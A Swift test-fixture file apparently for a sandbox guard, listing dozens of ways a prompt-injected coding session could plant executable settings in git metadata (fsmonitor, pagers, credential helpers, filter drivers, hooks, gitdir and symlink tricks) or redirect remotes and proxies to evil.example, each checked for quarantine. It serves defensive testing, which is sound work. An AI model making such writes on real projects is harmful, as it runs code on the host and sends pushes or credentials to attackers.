import Foundation
import Testing

/// One thing a prompt-injected session could write into the project's git metadata (issue 13's
/// lists), how it is written (as the container would: `git config` or plain file writes), what
/// the guard must quarantine, and how the host shows that it took effect.
struct HostileWrite: Sendable, CustomTestStringConvertible {
    enum Evidence: Sendable {
        /// A hostile program runs (leaves a sentinel file).
        case runs
        /// Host git goes elsewhere: this text appears in the battery's output.
        case output(String)
    }

    let name: String
    /// Audit text that shows each item was quarantined (`"key":"…"` or `"path":"…"`).
    let quarantined: [String]
    var evidence = Evidence.runs
    let apply: @Sendable (HostProject) async throws -> Void

    var testDescription: String { name }

    static func key(_ name: String) -> String { #""key":"\#(name)""# }
    static func path(_ name: String) -> String { #""path":"\#(name)""# }

    /// `git config KEY VALUE` in `app`, `@EVIL@` replaced by the hostile program's path.
    static func config(_ name: String, _ pairs: [(String, String)], attributes: String? = nil, quarantined: [String]? = nil) -> HostileWrite {
        let pairsCopy = pairs.map { [$0.0, $0.1] }
        return HostileWrite(name: name, quarantined: quarantined ?? pairs.map { key($0.0.lowercased()) }) { project in
            for pair in pairsCopy {
                let value = pair[1].replacingOccurrences(of: "@EVIL@", with: project.evil).replacingOccurrences(of: "@ELSEWHERE@", with: project.elsewhere)
                try await project.configWritingAsTheSessionWould(pair[0], value)
            }
            if let attributes { try project.write("app/.git/info/attributes", attributes + "\n") }
        }
    }

    static func hook(_ name: String) -> HostileWrite {
        HostileWrite(name: "hook \(name)", quarantined: [path("app/.git/hooks/\(name)")]) { project in
            try project.write("app/.git/hooks/\(name)", "#!/bin/sh\ntouch \"\(project.sentinels)/ran-hook-\(name)\"\nexit 0\n", executable: true)
        }
    }

    static let hooks = [
        "pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-checkout", "post-merge", "pre-merge-commit", "pre-rebase",
        "post-rewrite", "reference-transaction", "post-index-change", "pre-push", "pre-auto-gc", "pre-receive", "update", "post-receive",
        "post-update",
    ]

    static let keys: [HostileWrite] = [
        config("core.fsmonitor", [("core.fsmonitor", "@EVIL@")]),
        config("core.pager", [("core.pager", "@EVIL@")]),
        config("core.editor", [("core.editor", "@EVIL@")]),
        config("core.sshCommand", [("core.sshCommand", "@EVIL@")]),
        config("core.askPass", [("core.askPass", "@EVIL@")]),
        config("core.gitProxy", [("core.gitProxy", "@EVIL@")]),
        config("diff.external", [("diff.external", "@EVIL@")]),
        config("diff.<driver>.textconv", [("diff.x.textconv", "@EVIL@")], attributes: "* diff=x"),
        config("diff.<driver>.command", [("diff.x.command", "@EVIL@")], attributes: "* diff=x"),
        config("filter.<driver>.clean", [("filter.x.clean", "@EVIL@")], attributes: "* filter=x"),
        config("filter.<driver>.smudge", [("filter.x.smudge", "@EVIL@")], attributes: "* filter=x"),
        config("filter.<driver>.process", [("filter.x.process", "@EVIL@")], attributes: "* filter=x"),
        config("merge.<driver>.driver", [("merge.x.driver", "@EVIL@ %O %A %B")], attributes: "* merge=x"),
        config("alias.* with !", [("alias.st", "!@EVIL@")]),
        config("credential.helper", [("credential.helper", "!@EVIL@")]),
        config("credential.<url>.helper", [("credential.https://example.com.helper", "!@EVIL@")], quarantined: [key("credential.https://example.com.helper")]),
        config("gpg.program with commit.gpgSign", [("gpg.program", "@EVIL@"), ("commit.gpgSign", "true")]),
        config("sequence.editor", [("sequence.editor", "@EVIL@")]),
        config("pager.<command>", [("pager.log", "@EVIL@")]),
        config("remote.<name>.uploadpack", [("remote.evil.url", "../bare.git"), ("remote.evil.uploadpack", "@EVIL@")]),
        config("remote.<name>.receivepack", [("remote.evil.url", "../bare.git"), ("remote.evil.receivepack", "@EVIL@")]),
        config("core.hooksPath into the work tree", [("core.hooksPath", "tracked-hooks")]).with { project in
            try project.write("app/tracked-hooks/pre-commit", "#!/bin/sh\ntouch \"\(project.sentinels)/ran-hooksPath\"\n", executable: true)
        },
        config("remote.<name>.vcs", [("remote.evil.url", "x"), ("remote.evil.vcs", "../evil-helper")]).with { project in
            try project.write("app/git-remote-../evil-helper", "#!/bin/sh\ntouch \"\(project.sentinels)/ran-vcs\"\n", executable: true)
        },
        config("include.path to a file inside .git", [("include.path", "evil.gitconfig")]).with { project in
            try project.write("app/.git/evil.gitconfig", "[core]\n\tfsmonitor = \(project.evil)\n")
        },
        config("includeIf.*.path", [("includeIf.gitdir:/.path", "evil.gitconfig")], quarantined: [key("includeif.gitdir:/.path")]).with { project in
            try project.write("app/.git/evil.gitconfig", "[core]\n\tfsmonitor = \(project.evil)\n")
        },
        config(
            "url.*.insteadOf", [("url.https://evil.example/.insteadOf", "https://github.com/"), ("remote.origin.url", "https://github.com/o/app.git")],
            quarantined: [key("url.https://evil.example/.insteadof")]
        ).with(evidence: .output("evil.example")),
        config(
            "remote.<name>.pushurl", [("remote.origin.url", "https://github.com/o/app.git"), ("remote.origin.pushurl", "https://evil.example/x.git")],
            quarantined: [key("remote.origin.pushurl")]
        ).with(evidence: .output("evil.example")),
        config("http.proxy", [("http.proxy", "http://evil.example:3128")]).with(evidence: .output("evil.example")),
        config("http.extraHeader", [("http.extraHeader", "X-Evil: evil.example")]).with(evidence: .output("evil.example")),
        config("core.worktree", [("core.worktree", "@ELSEWHERE@")]).with(evidence: .output("elsewhere-worktree")),
    ]

    /// Repositories and files rather than keys.
    static let structures: [HostileWrite] = [
        HostileWrite(name: "a nested repository with core.fsmonitor", quarantined: [path("app/nested/.git/config")]) { project in
            try await project.mustGit(["init", "-q", "nested"])
            try await project.configWritingAsTheSessionWould("core.fsmonitor", project.evil, options: ["-C", "nested"])
        },
        HostileWrite(name: "a bare repository in the work tree with an alias", quarantined: [path("app/tools.git/config")]) { project in
            try await project.mustGit(["init", "-q", "--bare", "tools.git"])
            try await project.configWritingAsTheSessionWould("alias.st", "!" + project.evil, options: ["-C", "tools.git"])
            try await project.configWritingAsTheSessionWould("core.pager", project.evil, options: ["-C", "tools.git"])
        },
        HostileWrite(name: ".git replaced by a gitdir: file", quarantined: [path("app/.git"), path("app/evil-git/config")]) { project in
            try FileManager.default.copyItem(atPath: project.app + "/.git", toPath: project.app + "/evil-git")
            try await project.configWritingAsTheSessionWould("core.fsmonitor", project.evil, options: ["--git-dir=evil-git"])
            try FileManager.default.moveItem(atPath: project.app + "/.git", toPath: project.app + "/real-git")
            try project.write("app/.git", "gitdir: evil-git\n")
        },
        HostileWrite(
            name: "a .git file leading through a link to a git directory hidden in objects/",
            quarantined: [path("app/.git/objects/ab/hidden/config")]
        ) { project in
            try await project.mustGit(["init", "-q", "staging"])
            try FileManager.default.createDirectory(atPath: project.app + "/.git/objects/ab", withIntermediateDirectories: true)
            try FileManager.default.moveItem(atPath: project.app + "/staging/.git", toPath: project.app + "/.git/objects/ab/hidden")
            try await project.configWritingAsTheSessionWould("core.fsmonitor", project.evil, options: ["--git-dir=.git/objects/ab/hidden"])
            try FileManager.default.createSymbolicLink(atPath: project.app + "/objects-link", withDestinationPath: ".git/objects/ab")
            try project.write("app/nested/.git", "gitdir: ../objects-link/hidden\n")
        },
        HostileWrite(name: "config.worktree", quarantined: [path("app/.git/config.worktree")]) { project in
            try await project.configWritingAsTheSessionWould("extensions.worktreeConfig", "true")
            try project.write("app/.git/config.worktree", "[core]\n\tfsmonitor = \(project.evil)\n")
        },
        HostileWrite(name: "a submodule's modules/*/config", quarantined: [path("app/.git/modules/sub/config")]) { project in
            try await project.configWritingAsTheSessionWould("core.fsmonitor", project.evil, options: ["-C", "sub"])
        },
        HostileWrite(name: "a linked worktree's worktrees/*/config.worktree", quarantined: [path("app/.git/worktrees/wt/config.worktree")]) { project in
            try await project.configWritingAsTheSessionWould("extensions.worktreeConfig", "true")
            try project.write("app/.git/worktrees/wt/config.worktree", "[core]\n\tfsmonitor = \(project.evil)\n")
        },
        HostileWrite(name: "a hook that links into the work tree", quarantined: [path("app/.git/hooks/pre-commit")]) { project in
            try project.write("app/scripts/hook.sh", "#!/bin/sh\ntouch \"\(project.sentinels)/ran-linked-hook\"\n", executable: true)
            try FileManager.default.createSymbolicLink(atPath: project.app + "/.git/hooks/pre-commit", withDestinationPath: "../../scripts/hook.sh")
        },
        HostileWrite(name: ".git/config replaced by a link into the work tree", quarantined: [path("app/.git/config")]) { project in
            let config = try String(contentsOfFile: project.app + "/.git/config", encoding: .utf8)
            try project.write("app/settings.cfg", config + "[core]\n\tfsmonitor = \(project.evil)\n")
            try FileManager.default.removeItem(atPath: project.app + "/.git/config")
            try FileManager.default.createSymbolicLink(atPath: project.app + "/.git/config", withDestinationPath: "../settings.cfg")
        },
    ]
}

extension HostileWrite {
    /// The same write followed by `more` (files the keys refer to).
    func with(_ more: @escaping @Sendable (HostProject) async throws -> Void) -> HostileWrite {
        let first = apply
        return HostileWrite(name: name, quarantined: quarantined, evidence: evidence) { project in
            try await first(project)
            try await more(project)
        }
    }

    func with(evidence: Evidence) -> HostileWrite {
        HostileWrite(name: name, quarantined: quarantined, evidence: evidence, apply: apply)
    }
}
